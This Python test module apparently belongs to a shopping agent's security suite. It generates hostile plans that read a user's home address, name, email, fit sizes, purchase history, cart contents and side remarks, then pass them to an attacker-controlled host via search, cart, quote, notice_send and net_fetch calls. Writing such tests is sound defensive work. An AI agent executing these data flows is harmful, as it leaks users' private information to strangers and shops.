"""Attacks on what is private: fields, carts and remarks, told to shops or strangers."""

from collections.abc import Iterator

from manciple.agent.plan import (
    Command,
    Planned,
    Step,
    Value,
)
from tests.attacks.aims import forged, plan, shop_said
from tests.attacks.knows import Knows
from tests.attacks.tasks import REMARK
from tests.threats.hostile import found, step, worked


def address_away(knows: Knows) -> Iterator[Planned]:
    """The address, to a server of the attacker's."""
    for name in ("address.home", "identity.name", "contact.email"):
        for tool in ("find", "cart_show", "order_quote"):
            more: dict[str, Value] = {"words": found(1, "value")} if tool == "find" else {}
            yield plan(
                Step(
                    id="s1", tool="profile_read", arguments={"field": worked(name)}, optional=True
                ),
                step(2, tool, store=worked(knows.stranger), **more),
            )
            yield plan(
                step(
                    1,
                    tool,
                    store=worked(knows.stranger),
                    **({"words": worked("x")} if more else {}),
                )
            )


def fields_in_searches(knows: Knows) -> Iterator[Planned]:
    """Values that the planner may read, as words for a granted shop."""
    for name in ("fit.bottom", "fit.shoe", "history.purchases", "address.home"):
        for argument in ("words", "brand"):
            yield plan(
                step(1, "profile_read", field=worked(name)),
                step(2, "find", store=shop_said(knows), **{argument: found(1, "value")}),
            )
    yield plan(
        step(1, "profile_read", field=worked("fit.bottom")),
        step(
            2,
            "watch_create",
            store=worked(knows.host),
            words=found(1, "value"),
            price_max=worked("1 USD"),
            product=found(1, "value"),
        ),
    )


def carts_told(knows: Knows) -> Iterator[Planned]:
    """What lies in one shop's cart, as words for the other."""
    mall = worked(knows.hosts["mall"])
    for path in ("lines.0.title", "lines.0.ref.product"):
        yield plan(
            step(1, "cart_show", store=worked(knows.hosts["shop"])),
            step(2, "find", store=mall, words=found(1, path)),
        )


def remark_told(knows: Knows) -> Iterator[Planned]:
    """What the user said beside the request, as words for a shop."""
    for host in knows.hosts.values():
        yield plan(step(1, "find", store=worked(host), words=forged(knows, REMARK, "text")))


def said_beside(knows: Knows) -> str:
    return "" if REMARK in knows.task.words else f", {REMARK}"


def tells_elsewhere(knows: Knows) -> Iterator[Planned]:
    """Notices to a channel that the attacker hears."""
    for channel in ("main", "terminal", f"json://{knows.stranger}"):
        yield plan(
            step(
                1,
                "notice_send",
                kind=worked("cart"),
                channel=worked(channel),
                host=worked(knows.stranger),
                watch=worked("w1"),
            ),
        )
    yield Command(words=["notify", "test", f"json://{knows.stranger}"])
    yield plan(step(1, "net_fetch", url=worked(f"http://{knows.stranger}/?q=1")))
